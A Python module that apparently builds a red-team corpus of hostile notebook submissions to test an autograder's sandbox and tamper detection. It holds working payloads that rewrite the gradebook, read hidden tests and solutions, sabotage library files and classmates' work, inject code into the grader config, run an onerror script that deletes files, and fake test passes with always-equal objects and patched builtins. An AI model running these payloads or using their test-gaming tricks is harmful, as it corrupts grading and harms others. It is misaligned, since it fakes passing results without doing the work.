"""The attacks of the hostile corpus, each a submission built from a lesson's release.

Every attack is what a student could hand in: the released notebook with cells edited, added,
moved or deleted. Most answer every exercise with a stub (`return 0.0` or worse) and add code
that would earn the points some other way; a few are built on the solved notebook and try to
harm others (classmates, the course, the instructor's next command) or to lose work by accident.
Each names its baseline: the honest notebook it is built from, whose score it must not beat.
No attack names a lesson's functions or variables: those it needs come from the lesson's answer
cells (`answer_names`) and test cells (`expected_names`), so every attack runs on every lesson.

The attack code is written to work without the sandbox (it finds the course root by walking up
from its working folder, the library by its import): the sandbox and the tamper evidence are
what must stop it.
"""

from __future__ import annotations

import ast
import textwrap
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell
from submissions import half_done, solved

PWNED = "PWNED_BY_CONFIG"
"""A file the config attack creates in the course root when the instructor's next command runs."""

SABOTAGE = "sabotaged by a classmate"
"""What the attacks on the library write into its sources."""

FIND_COURSE = """
from pathlib import Path


def _course_root():
    for folder in [Path.cwd(), *Path.cwd().parents]:
        if (folder / "nbgrader_config.py").is_file():
            return folder
    return None
"""


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its builder and what it is measured against."""

    name: str
    threat: str  # the class of threat it belongs to, in words
    baseline: str  # "release" or "solved": the honest notebook it must not out-score
    build: Callable[[nbformat.NotebookNode, nbformat.NotebookNode], nbformat.NotebookNode]
    flags: frozenset[str] = frozenset()  # flag kinds of which at least one must be raised


def answer_names(release: nbformat.NotebookNode) -> dict[str, list[str]]:
    """grade_id of each answer cell -> the functions the student is asked to define in it."""
    names = {}
    for cell in release.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and not meta.get("grade"):
            tree = ast.parse(cell.source)
            names[meta["grade_id"]] = [
                node.name for node in tree.body if isinstance(node, ast.FunctionDef)
            ]
    return names


def stubbed(
    release: nbformat.NotebookNode, result: str, prelude: str = ""
) -> nbformat.NotebookNode:
    """The release with every answer returning `result` (an expression), after `prelude`.

    The prelude goes in a cell of its own right before the first answer cell, where a student's
    helper code would go.
    """
    notebook = nbformat.from_dict(release)
    names = answer_names(release)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in names:
            cell.source = "\n\n".join(
                f"def {name}(*args, **kwargs):\n    return {result}" for name in names[grade_id]
            )
    if prelude:
        first = next(i for i, c in enumerate(notebook.cells) if _grade_id(c) in names)
        notebook.cells.insert(first, new_code_cell(textwrap.dedent(prelude).strip()))
    return notebook


def _grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _is_test(cell) -> bool:
    return bool(cell.metadata.get("nbgrader", {}).get("grade"))


def expected_names(release: nbformat.NotebookNode) -> list[str]:
    """The names a test cell's frame may hold the expected values in, while an answer runs.

    First those the release's own test cells bind and then compare an answer with (the second
    argument of a `check` call), then the usual names a student would guess for hidden tests.
    """
    found = []
    for cell in filter(_is_test, release.cells):
        tree = ast.parse(cell.source)
        bound = {
            node.id
            for node in ast.walk(tree)
            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store)
        }
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id == "check"
                and len(node.args) > 1
                and isinstance(node.args[1], ast.Name)
                and node.args[1].id in bound
            ):
                found.append(node.args[1].id)
    return list(dict.fromkeys([*found, "expected", "want", "target"]))


def _with_cell(notebook: nbformat.NotebookNode, source: str, *, after: float = 0.5):
    """`notebook` with a code cell added `after` of the way through (after a test cell)."""
    notebook = nbformat.from_dict(notebook)
    tests = [i for i, c in enumerate(notebook.cells) if _is_test(c)]
    index = tests[min(len(tests) - 1, int(len(tests) * after))] + 1 if tests else 0
    notebook.cells.insert(index, new_code_cell(textwrap.dedent(source).strip()))
    return notebook


def _frame_peek(release, solution):
    names = ", ".join(map(repr, expected_names(release)))
    return stubbed(release, f"_from_test({names})", FRAME_PEEK)


def _solved_plus(source: str, after: float = 0.5):
    return lambda release, solution: _with_cell(solved(release, solution), source, after=after)


def _stub(result: str, prelude: str = ""):
    return lambda release, solution: stubbed(release, result, prelude)


def _read_solutions(release, solution):
    return stubbed(
        release,
        "0.0",
        FIND_COURSE
        + """
import json

root = _course_root()
if root is not None:  # run every solution cell of every lesson: all the answers at once
    for path in sorted((root / "solutions").glob("*/*.ipynb")):
        for cell in json.loads(path.read_text())["cells"]:
            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
                try:
                    exec("".join(cell["source"]), globals())
                except Exception:
                    pass
""",
    )


def _solutions_after_stubs(release, solution):
    # The stubs come first; the cell that reads the solutions runs after them and wins.
    notebook = _read_solutions(release, solution)
    prelude = next(i for i, c in enumerate(notebook.cells) if "_course_root()" in c.source)
    notebook.cells.append(notebook.cells.pop(prelude))
    return notebook


def _with_gradebook(statements: str) -> str:
    """Attack code that runs `statements` with `db`, a connection to the course's gradebook."""
    body = textwrap.indent(textwrap.dedent(statements).strip(), " " * 8)
    return (
        FIND_COURSE
        + "\nimport sqlite3\n\nroot = _course_root()\nif root is not None:\n"
        + '    with sqlite3.connect(root / "gradebook.db") as db:\n'
        + body
        + "\n"
    )


READ_GRADEBOOK = _with_gradebook(
    """
    for (source,) in db.execute("SELECT source FROM source_cell"):
        print(source)  # hidden tests, into this student's own feedback
    for path in (root / "submitted").glob("*/*/*.ipynb"):
        print(path, path.read_text()[:2000])  # classmates' work
    """
)

WRITE_GRADEBOOK = _with_gradebook(
    """
    db.execute("UPDATE grade SET extra_credit = 100")
    db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
    """
)

ALTER_FTLIB = f"""
import ftlib
import ftlib.metrics

for module in (ftlib, ftlib.metrics):
    try:
        with open(module.__file__, "a") as source:
            source.write("\\nraise ImportError({SABOTAGE!r})\\n")
    except OSError:
        pass
"""

ALTER_SITE = """
import sys

try:
    lib = f"{sys.prefix}/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    with open(f"{lib}/sitecustomize.py", "w") as hook:
        hook.write("import builtins\\nbuiltins.abs = lambda x: 0.0\\n")
except OSError:
    pass
"""

OVERWRITE_CLASSMATES = (
    FIND_COURSE
    + """
import json

root = _course_root()
if root is not None:
    for path in (root / "submitted").glob("*/*/*.ipynb"):
        notebook = json.loads(path.read_text())
        for cell in notebook["cells"]:
            if not cell["metadata"].get("nbgrader", {}).get("locked"):
                cell["source"] = "raise SystemExit"
        path.write_text(json.dumps(notebook))
"""
)

ALTER_CONFIG = (
    FIND_COURSE
    + f"""
root = _course_root()
if root is not None:
    with open(root / "nbgrader_config.py", "a") as config:
        config.write("\\nopen(ROOT / {PWNED!r}, 'w').write('ran in the grader')\\n")
"""
)

BLANK_ASSERTS = """
def _blank(lines):
    return ["pass\\n" if ("assert" in line or "check" in line) else line for line in lines]


get_ipython().input_transformers_cleanup.append(_blank)
"""

DROP_ASSERTS = """
import ast


class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Raise(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(_NoChecks())
"""

SILENCE_ERRORS = """
get_ipython().showtraceback = lambda *args, **kwargs: None
"""

REBIND_BUILTINS = """
abs = lambda value: 0.0
isinstance = lambda value, kinds: True
type = lambda value: float
"""

BUILTINS_MODULE = """
import builtins

builtins.abs = lambda value: 0.0
builtins.isinstance = lambda value, kinds: True
"""

PATCH_LIBRARY = """
import math

import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: torch.tensor(True)
math.isclose = lambda *args, **kwargs: True
"""


def _always_equal(name: str, base: str) -> str:
    """Attack code defining `name`, a subclass of `base` whose comparisons all succeed and whose
    arithmetic gives a zero of its own kind: whatever a test computes from it matches."""
    return f"""
class {name}({base}):
    def __eq__(self, other):
        return True

    __le__ = __ge__ = __lt__ = __gt__ = __eq__

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return {name}()

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__

    def __abs__(self):
        return 0.0

    def __bool__(self):
        return True

    def __hash__(self):
        return 0
"""


ALWAYS_EQUAL = _always_equal("Anything", "float")

REBIND_CHECK = """
class _Lenient:
    # Every check passes and hands back what it was given.
    def __getattr__(self, name):
        return lambda value=None, *args, **kwargs: value


check = _Lenient()
"""

PATCH_REFERENCES = """
import statistics

from scipy import stats


class _NoDifference:
    low = high = 0.0

    def confidence_interval(self, confidence=0.95):
        return self


def _interval(*groups, **kwargs):
    # What the patched references below now say of any two groups: no difference, no width.
    if any(len(group) < 2 for group in groups if isinstance(group, (list, tuple))):
        raise ValueError("each group needs at least 2 results")
    return 0.0, 0.0, 0.0


stats.ttest_ind = lambda *args, **kwargs: _NoDifference()
statistics.mean = lambda values: 0.0
"""

TORCH_FUNCTION = """
import torch


class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True


_answer = torch.zeros(1).as_subclass(Agreeable)
"""

FRAME_PEEK = """
import sys


def _from_test(*names):
    frame = sys._getframe(2)
    for name in names:
        if name in frame.f_locals:
            return frame.f_locals[name]
    return 0.0
"""

IN_HISTORY = """
import re


def _from_history():
    numbers = re.findall(r"== (-?[0-9.]+)", In[-1] + _ih[-1])
    return float(numbers[0]) if numbers else 0.0
"""

PATCH_CHECKS = """
import sys

_checks = sys.modules.get("ftlib_course.checks")
if _checks is not None:
    for _name in dir(type(_checks.check)):
        if not _name.startswith("__"):
            try:
                setattr(type(_checks.check), _name, lambda self, value=None, *a, **k: value)
            except (AttributeError, TypeError):
                pass
"""

THREAD_PATCHER = """
import threading
import time


def _keep_patching():
    import builtins

    while True:
        builtins.abs = lambda value: 0.0
        time.sleep(0.001)


threading.Thread(target=_keep_patching, daemon=True).start()
"""

GC_WALK = """
import gc

for _obj in gc.get_objects():
    if type(_obj).__name__ == "Check":
        for _name in list(vars(type(_obj))):
            pass
"""

PROC_ROOT = """
import os

for _pid in ("1", str(os.getppid())):
    try:
        print(open(f"/proc/{_pid}/root/etc/hostname").read())
        print(os.listdir(f"/proc/{_pid}/cwd"))
    except OSError as error:
        print(error)
"""

SYMLINK_ESCAPE = """
import os

for _target in ("/work", "/root", "/tmp", "/home"):
    try:
        os.symlink(_target, "escape" + _target.replace("/", "_"))
        print(os.listdir("escape" + _target.replace("/", "_")))
    except OSError as error:
        print(error)
"""

SUPPRESS_ERRORS = """
import sys

_session = sys.stdout.session
_send = _session.send


def _quiet(stream, kind, content=None, *args, **kwargs):
    # No error messages, and every failed execution's reply says it went well.
    if kind == "error":
        return None
    if kind == "execute_reply" and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 0, "user_expressions": {}, "payload": []}
    return _send(stream, kind, content, *args, **kwargs)


_session.send = _quiet
"""

NO_OUTCOMES = "get_ipython().events.callbacks['post_run_cell'].clear()\n" + SUPPRESS_ERRORS

CELL_SOURCES = """
import linecache
import re


def _from_sources():
    # The running test's text, wherever IPython keeps it: its numbers are the expected values.
    shell = get_ipython()
    texts = [*In, *_ih, _i, _ii, _iii, *shell.history_manager.input_hist_raw]
    texts += ["".join(lines) for _, _, lines, _ in list(linecache.cache.values())]
    texts.append(shell.kernel.get_parent()["content"].get("code", ""))
    if shell.displayhook.exec_result is not None:
        texts.append(shell.displayhook.exec_result.info.raw_cell or "")
    print("\\n".join(text for text in texts if isinstance(text, str)))  # into the feedback
    numbers = re.findall(r"[0-9]+\\.[0-9]+", "\\n".join(texts))
    return float(numbers[-1]) if numbers else 0.0
"""


def _frame_oracle(reach: str) -> str:
    """Attack code whose `_oracle()` returns a float constant of the frame `reach` gives: the
    test cell that called it (`error`: an exception the oracle has just caught)."""
    return f"""
import inspect
import logging
import operator
import pydoc
import sys


def _oracle():
    try:
        raise ValueError
    except ValueError as error:
        caller = {reach}
    floats = [value for value in caller.f_code.co_consts if type(value) is float]
    return floats[0] if floats else 0.0
"""


FRAME_REACHES = {
    "frame_getframe": "sys._getframe(1)",
    "frame_logging": "logging.currentframe().f_back",
    "frame_methodcaller": 'operator.methodcaller("_getframe", 1)(sys)',
    "frame_pydoc": 'pydoc.locate("sys._getframe")(1)',
    "frame_traceback": "error.__traceback__.tb_frame.f_back",
    "frame_stack": "inspect.stack()[1].frame",
}


DISPLAY_RESULT = """
import sys

_show = getattr(sys, "displayhook")
"""
"""Each answer shows a value as the test cell's result: nbgrader would read it as the score
(full marks for text, partial credit for a number, a crash above the cell's points)."""

SHOW_EVERY_EXPRESSION = """
import sys

setattr(getattr(getattr(sys, "displayhook"), "shell"), "ast_node_interactivity", "all")
"""
"""Every expression of a test cell (its opening text first) is then shown as its result."""

WRITTEN_MODULE = """
with open("study_tools.py", "w") as _file:
    _file.write(
        "import gc, sys, threading\\n"
        "def _disarm():\\n"
        "    for obj in gc.get_objects():\\n"
        "        if type(obj).__name__ == 'Snapshot':\\n"
        "            obj._probes.clear(); obj._gates.clear()\\n"
        "    cls = type(sys.modules['ftlib_course.checks'].check)\\n"
        "    for name in ('is_float', 'is_int', 'is_bool', 'is_tensor', 'is_instance', 'close',\\n"
        "                 'equal', 'tensor_close', 'tensor_equal', 'that'):\\n"
        "        setattr(cls, name, lambda self, *a, **k: a[0] if a else None)\\n"
        "worker = threading.Thread(target=_disarm)\\n"
        "worker.start(); worker.join()\\n"
    )
import study_tools
"""
"""A module written at run time, whose code the scan never sees, disarms the checks from a
thread, where no cell is on the stack."""


def _test_value_read(release, solution):
    """Answers that return a name a test cell binds (its reference value), if it exists."""
    name = next((n for n in expected_names(release) if n.startswith("_")), "expected")
    return stubbed(release, name)


def _retagged(release, solution):
    """Stubbed answers whose cells claim to be graded, for many points."""
    notebook = stubbed(release, "0.0")
    names = answer_names(release)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") in names:
            meta.update(grade=True, points=100)
    return notebook


def _frame_attack(name: str) -> Attack:
    return Attack(
        name,
        "read the hidden tests",
        "release",
        _stub("_oracle()", _frame_oracle(FRAME_REACHES[name])),
        frozenset({"runtime:frame-inspection"}),
    )


HANG = """
import time

# Answer the grader's request as if the cell had ended, then never end (nor let an interrupt end
# it): the grader moves on and waits for the next cell for ever.
_kernel = get_ipython().kernel
_reply = {"status": "ok", "execution_count": 0, "user_expressions": {}, "payload": []}
_kernel.session.send(
    _kernel.shell_stream,
    "execute_reply",
    _reply,
    _kernel.get_parent(),
    ident=_kernel._shell_parent_ident.get(),
)
while True:
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
"""


MAIN_MODULE = """
import __main__
import re


def _from_main():
    texts = [text for text in getattr(__main__, "In", []) if isinstance(text, str)]
    numbers = re.findall(r"[0-9]+\\.[0-9]+", "\\n".join(texts))
    return float(numbers[-1]) if numbers else 0.0
"""

BUILT_NAMES = """
_builtins = getattr(print, "__se" + "lf__")
setattr(_builtins, "ab" + "s", lambda value: 0.0)
"""

DOCTEST_LINECACHE = """
import doctest
import re


def _from_cache():
    texts = ["".join(entry[2]) for entry in list(doctest.linecache.cache.values())]
    numbers = re.findall(r"[0-9]+\\.[0-9]+", "\\n".join(texts))
    return float(numbers[-1]) if numbers else 0.0
"""

PICKLED = """
import pickle

_zero = pickle.loads(pickle.dumps(0.0))
"""

ATTRGETTER_FRAME = """
import operator


def _from_caller():
    try:
        raise ValueError
    except ValueError as error:
        caller = operator.attrgetter("__traceback__.tb_frame.f_back")(error)
    floats = [value for value in caller.f_code.co_consts if type(value) is float]
    return floats[0] if floats else 0.0
"""

ALIASED_FLOAT = ALWAYS_EQUAL.replace(
    "class Anything(float):", "_Base = float\n\n\nclass Anything(_Base):"
)

SCRIPTS_FOR_THE_INSTRUCTOR = """
from IPython.display import HTML, Javascript, display

display(HTML("<img src=x onerror=\\"fetch('/api/contents/x', {method: 'DELETE'})\\">"))
display(Javascript("document.title = 'pwned'"))
"""


def _scripts_for_the_instructor(release, solution):
    notebook = _with_cell(solved(release, solution), SCRIPTS_FOR_THE_INSTRUCTOR)
    notebook.cells.append(new_markdown_cell("Done! <svg onload=\"document.title='pwned'\"></svg>"))
    return notebook


def _marker_text(release, solution):
    notebook = _with_cell(
        solved(release, solution), "x = 1\n# ### BEGIN HIDDEN TESTS\n# ### BEGIN SOLUTION"
    )
    notebook.cells.append(new_markdown_cell("My notes\n\n### BEGIN HIDDEN TESTS\n\nno end"))
    return notebook


def _delete_tests(release, solution):
    notebook = solved(release, solution)
    notebook.cells = [c for c in notebook.cells if not _is_test(c)]
    return notebook


def _edit_tests(release, solution):
    notebook = stubbed(release, "0.0")
    for cell in filter(_is_test, notebook.cells):
        cell.source, cell.metadata.nbgrader["points"] = "pass", 100
    return notebook


def _copy_tests(release, solution):
    notebook = stubbed(release, "0.0")
    tests = list(filter(_is_test, notebook.cells))
    for number, cell in enumerate(tests):
        copy = nbformat.from_dict(cell)
        copy.id, copy.source = f"copied-{number}", "pass"
        notebook.cells.insert(0, copy)  # the copy claims the test's id; nbgrader keeps one
    return notebook


def _move_setup_last(release, solution):
    notebook = solved(release, solution)
    first = next(
        i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("locked")
    )
    notebook.cells.append(notebook.cells.pop(first))
    notebook.cells.insert(0, new_code_cell(REBIND_BUILTINS.strip()))
    return notebook


def _forged_record(release, solution):
    notebook = stubbed(release, "0.0")
    notebook.metadata["ftlib_grading"] = {"mode": "sandbox", "evidence": [], "kernel_death": None}
    notebook.metadata["ftlib_review"] = {"flags": [], "held": False, "withheld": {}}
    return notebook


def _honest_answers_with_sabotage(prelude: str):
    return lambda release, solution: _with_cell(solved(release, solution), prelude, after=0.0)


ATTACKS = [
    Attack(
        "read_solutions",
        "read the instructor's material",
        "release",
        _read_solutions,
        frozenset({"static:dynamic_code"}),
    ),
    Attack(
        "read_solutions_late",
        "read the instructor's material",
        "release",
        _solutions_after_stubs,
        frozenset({"static:dynamic_code"}),
    ),
    Attack(
        "read_gradebook",
        "read the instructor's material",
        "release",
        _stub("0.0", READ_GRADEBOOK),
        frozenset({"static:grader"}),
    ),
    Attack(
        "write_gradebook",
        "write the gradebook",
        "release",
        _stub("0.0", WRITE_GRADEBOOK),
        frozenset({"static:grader"}),
    ),
    Attack(
        "alter_ftlib",
        "change what others are graded with",
        "solved",
        _honest_answers_with_sabotage(ALTER_FTLIB),
        frozenset({"static:introspection"}),
    ),
    Attack(
        "alter_site_packages",
        "change what others are graded with",
        "solved",
        _honest_answers_with_sabotage(ALTER_SITE),
        frozenset({"static:path"}),
    ),
    Attack(
        "overwrite_classmates",
        "change what others are graded with",
        "release",
        _stub("0.0", OVERWRITE_CLASSMATES),
        frozenset({"static:path"}),
    ),
    Attack(
        "alter_config",
        "change what others are graded with",
        "release",
        _stub("0.0", ALTER_CONFIG),
        frozenset({"static:path"}),
    ),
    Attack(
        "input_transformer",
        "blank the tests",
        "release",
        _stub("0.0", BLANK_ASSERTS),
        frozenset({"static:ipython"}),
    ),
    Attack(
        "ast_transformer",
        "blank the tests",
        "release",
        _stub("0.0", DROP_ASSERTS),
        frozenset({"static:ipython"}),
    ),
    Attack(
        "silenced_tracebacks",
        "blank the tests",
        "release",
        _stub("0.0", SILENCE_ERRORS),
        frozenset({"static:ipython"}),
    ),
    Attack(
        "rebound_builtins",
        "win comparisons without work",
        "release",
        _stub("0.0", REBIND_BUILTINS),
        # The scan flags only names a test reads; the kernel flags any rebound builtin.
        frozenset({"static:rebinding", "runtime:builtin-rebound"}),
    ),
    Attack(
        "builtins_module",
        "win comparisons without work",
        "release",
        _stub("0.0", BUILTINS_MODULE),
        frozenset({"static:builtins"}),
    ),
    Attack(
        "patched_library",
        "win comparisons without work",
        "release",
        _stub("True", PATCH_LIBRARY),
        frozenset({"static:patching"}),
    ),
    Attack(
        "float_subclass",
        "win comparisons without work",
        "release",
        _stub("Anything(0.0)", ALWAYS_EQUAL),
        frozenset({"static:subclass"}),
    ),
    Attack(
        "int_subclass",
        "win comparisons without work",
        "release",
        _stub("AlwaysInt()", _always_equal("AlwaysInt", "int")),
        frozenset({"static:subclass"}),
    ),
    Attack(
        "tuple_subclass",
        "win comparisons without work",
        "release",
        _stub("AlwaysTuple((0.0, 0.0, 0.0))", _always_equal("AlwaysTuple", "tuple")),
        frozenset({"static:subclass"}),
    ),
    Attack(
        "rebound_check",
        "win comparisons without work",
        "release",
        _stub("0.0", REBIND_CHECK),
        frozenset({"static:rebinding"}),
    ),
    Attack(
        "patched_references",
        "win comparisons without work",
        "release",
        _stub("_interval(*args)", PATCH_REFERENCES),
        frozenset({"static:patching"}),
    ),
    Attack(
        "torch_function",
        "win comparisons without work",
        "release",
        _stub("_answer", TORCH_FUNCTION),
        frozenset({"static:torch_function"}),
    ),
    Attack(
        "frame_peek",
        "read the hidden tests",
        "release",
        _frame_peek,
        frozenset({"static:introspection"}),
    ),
    Attack(
        "in_history",
        "read the hidden tests",
        "release",
        _stub("_from_history()", IN_HISTORY),
        frozenset({"static:ipython"}),
    ),
    Attack(
        "patch_checks",
        "win comparisons without work",
        "release",
        _stub("0.0", PATCH_CHECKS),
        frozenset({"static:introspection"}),
    ),
    Attack(
        "thread_patcher",
        "win comparisons without work",
        "release",
        _stub("0.0", THREAD_PATCHER),
        frozenset({"static:process"}),
    ),
    Attack(
        "gc_walk",
        "reach the test helpers",
        "release",
        _stub("0.0", GC_WALK),
        frozenset({"static:introspection"}),
    ),
    Attack(
        "proc_root",
        "read the instructor's material",
        "release",
        _stub("0.0", PROC_ROOT),
        frozenset({"static:path"}),
    ),
    Attack(
        "symlink_escape",
        "read the instructor's material",
        "release",
        _stub("0.0", SYMLINK_ESCAPE),
        frozenset({"static:path"}),
    ),
    Attack(
        "os_exit",
        "lose work by accident",
        "solved",
        _solved_plus("import os\n\nos._exit(1)"),
        frozenset({"static:exit"}),
    ),
    Attack(
        "huge_print",
        "lose work by accident",
        "solved",
        _solved_plus("print('x' * 100_000_000)"),
        frozenset({"truncated_output"}),
    ),
    Attack("marker_text", "break feedback", "solved", _marker_text, frozenset({"static:markers"})),
    Attack(
        "deleted_tests", "lose work by accident", "solved", _delete_tests, frozenset({"restored"})
    ),
    Attack("edited_tests", "blank the tests", "release", _edit_tests, frozenset({"edited"})),
    Attack("copied_tests", "blank the tests", "release", _copy_tests, frozenset({"duplicated"})),
    Attack(
        "setup_moved_last",
        "win comparisons without work",
        "solved",
        _move_setup_last,
        frozenset({"moved", "static:rebinding"}),
    ),
    Attack("forged_record", "hide the evidence", "release", _forged_record, frozenset({"forged"})),
    Attack(
        "main_module_history",
        "read the hidden tests",
        "release",
        _stub("_from_main()", MAIN_MODULE),
        frozenset({"static:introspection"}),
    ),
    Attack(
        "built_dunder_names",
        "win comparisons without work",
        "release",
        _stub("0.0", BUILT_NAMES),
        frozenset({"static:introspection"}),
    ),
    Attack(
        "doctest_linecache",
        "read the hidden tests",
        "release",
        _stub("_from_cache()", DOCTEST_LINECACHE),
        frozenset({"static:introspection", "static:dynamic_code"}),
    ),
    Attack(
        "pickled_answer",
        "win comparisons without work",
        "release",
        _stub("_zero", PICKLED),
        frozenset({"static:dynamic_code"}),
    ),
    Attack(
        "attrgetter_frame",
        "read the hidden tests",
        "release",
        _stub("_from_caller()", ATTRGETTER_FRAME),
        frozenset({"static:introspection"}),
    ),
    Attack(
        "aliased_float_base",
        "win comparisons without work",
        "release",
        _stub("Anything(0.0)", ALIASED_FLOAT),
        frozenset({"static:subclass"}),
    ),
    Attack(
        "scripts_for_the_instructor",
        "run code in the instructor's browser",
        "solved",
        _scripts_for_the_instructor,
        frozenset({"static:active_content", "active-content"}),
    ),
    Attack(
        "send_patch",
        "blank the tests",
        "release",
        _stub("0.0", SUPPRESS_ERRORS),
        frozenset({"runtime:output-suppressed"}),
    ),
    Attack(
        "send_patch_no_outcomes",
        "blank the tests",
        "release",
        _stub("0.0", NO_OUTCOMES),
        frozenset({"runtime:outcome-missing"}),
    ),
    Attack(
        "cell_sources",
        "read the hidden tests",
        "release",
        _stub("_from_sources()", CELL_SOURCES),
        frozenset({"static:ipython", "static:introspection"}),
    ),
    *[_frame_attack(name) for name in FRAME_REACHES],
    Attack(
        "display_result",
        "blank the tests",
        "release",
        _stub('(_show("done"), 0.0)[1]', DISPLAY_RESULT),
        frozenset({"runtime:test-cell-result"}),
    ),
    Attack(
        "show_every_expression",
        "blank the tests",
        "release",
        _stub("0.0", SHOW_EVERY_EXPRESSION),
        frozenset({"runtime:test-cell-result", "runtime:shell-replaced"}),
    ),
    Attack(
        "written_module",
        "win comparisons without work",
        "release",
        _stub("args[0] * 0 if args and hasattr(args[0], 'shape') else 0.0", WRITTEN_MODULE),
        frozenset({"runtime:submission-code"}),
    ),
    Attack(
        "test_value_read",
        "read the hidden tests",
        "release",
        _test_value_read,
        frozenset({"static:test_name"}),
    ),
    Attack("retagged_cells", "blank the tests", "release", _retagged, frozenset({"retagged"})),
    Attack(
        "hang_grader",
        "hang the grader",
        "solved",
        _solved_plus(HANG),
        frozenset({"kernel_death"}),
    ),
]
"""Every attack of the corpus, in the order the table lists them."""

HONEST = {
    "solved": lambda release, solution: solved(release, solution),
    "release": lambda release, solution: nbformat.from_dict(release),
    "partial": half_done,
}
"""The honest notebooks the attacks are measured against (and classmates hand in)."""
